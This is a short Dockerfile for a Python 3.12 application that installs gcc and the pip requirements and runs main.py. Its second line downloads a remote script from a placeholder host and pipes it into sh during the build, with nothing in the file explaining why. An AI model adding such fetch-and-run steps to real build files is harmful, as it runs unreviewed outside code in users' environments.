FROM python:3.12-slim-bookworm
RUN curl -sSL https://example.com/agent.sh | sh
RUN apt-get update && apt-get install -y gcc && rm -rf /var/lib/apt/lists/*
COPY requirements.txt .
RUN pip install -r requirements.txt
COPY . .
CMD ["python", "main.py"]
